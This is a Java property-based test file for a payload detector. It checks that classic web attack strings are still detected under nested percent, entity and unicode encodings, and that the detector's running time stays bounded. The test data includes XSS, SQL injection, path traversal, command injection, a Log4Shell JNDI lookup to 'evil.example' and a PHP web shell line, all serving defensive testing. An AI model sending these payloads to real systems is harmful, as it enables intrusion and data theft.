package dev.aidb.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.UnaryOperator;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** What holds for any text: jqwik prints the seed that replays a failure. */
class PayloadDetectorPropertyTest {
  /** Every look is bounded by a constant; the cheapest text costs 4, the dearest known 240. */
  private static final long STEPS_PER_CHARACTER_MAX = 400;

  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "' OR '1'='1' --",
          "1 UNION SELECT username, password FROM users",
          "../../../etc/passwd",
          "..\\..\\..\\windows\\win.ini",
          "; cat /etc/passwd",
          "{{''.__class__.__mro__[1].__subclasses__()}}",
          "${jndi:ldap://evil.example/a}",
          "<?php system($_GET['cmd']); ?>");

  private final PayloadDetector detector = new PayloadDetector();

  @Property(tries = 500)
  void anyNestingOfEncodingsIsUndone(
      @ForAll("payloads") String payload, @ForAll("encodings") List<UnaryOperator<String>> layers) {
    String text = payload;
    for (UnaryOperator<String> layer : layers) {
      text = layer.apply(text);
    }
    assertThat(detector.find(text)).describedAs(text).isNotEmpty();
  }

  @Property(tries = 500)
  void takesAnyText(@ForAll String text) {
    detector.find(text);
  }

  @Property(tries = 300)
  void takesAnyTextOfAwkwardPieces(@ForAll("awkward") String text) {
    long steps = detector.examine(text).steps();

    assertThat(steps).isLessThan(STEPS_PER_CHARACTER_MAX * (text.length() + 64L));
  }

  @Property(tries = 120)
  void looksAtEachCharacterBoundedlyOften(@ForAll("pieces") String piece) {
    String text = piece.repeat(Math.max(1, 10_000 / piece.length()));

    assertThat(detector.examine(text).steps())
        .describedAs(piece)
        .isLessThan(STEPS_PER_CHARACTER_MAX * text.length());
  }

  @Provide
  Arbitrary<String> payloads() {
    return Arbitraries.of(PAYLOADS);
  }

  @Provide
  Arbitrary<List<UnaryOperator<String>>> encodings() {
    List<UnaryOperator<String>> layers =
        List.of(
            text -> percent(text),
            text -> marks(text, "&#%d;"),
            text -> marks(text, "&#x%x;"),
            text -> marks(text, "\\u%04x"),
            text -> marks(text, "\\x%02x"),
            text -> marks(text, "%%u%04x"));
    return Arbitraries.of(layers).list().ofMinSize(0).ofMaxSize(3);
  }

  private static String percent(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      out.append(Character.isLetterOrDigit(b) ? "" + (char) b : String.format("%%%02x", b & 0xff));
    }
    return out.toString();
  }

  private static String marks(String text, String format) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      out.append(Character.isLetterOrDigit(c) ? "" + c : String.format(format, (int) c));
    }
    return out.toString();
  }

  @Provide
  Arbitrary<String> pieces() {
    return Arbitraries.of(
        "%25",
        "%252525",
        "&amp;",
        "&#",
        "&#x3c",
        "\\u00",
        "%c0",
        "%e0%80",
        "/*",
        "/*/",
        "'",
        "\"",
        "''or",
        "' or ",
        "or 1=",
        "or '1'=",
        "<",
        "<a ",
        "<a \"",
        "<script ",
        "<script>",
        "<x on",
        "<x onload=",
        "on=",
        "../",
        "..",
        "..%2f",
        ".;/",
        "; id",
        "|ls",
        "$(id",
        "`",
        "`id",
        "{{",
        "{{ ",
        "${",
        "${jndi:",
        "${lower:",
        "#{",
        "<%",
        "javascript:",
        "a=j ",
        "sleep(",
        "(select",
        "1 union select ",
        "union ",
        "--",
        "#",
        "eval(",
        "system('",
        "system('id",
        "__class__",
        "o:1:\"",
        "ro0ab",
        "data:text/html",
        "file://",
        "php://filter",
        "\u0000",
        " ",
        "\u0301",
        "why ../../etc/passwd ",
        "does <script>alert(1)</script> run ");
  }

  @Provide
  Arbitrary<String> awkward() {
    return pieces().list().ofMinSize(1).ofMaxSize(400).map(pieces -> String.join("", pieces));
  }
}
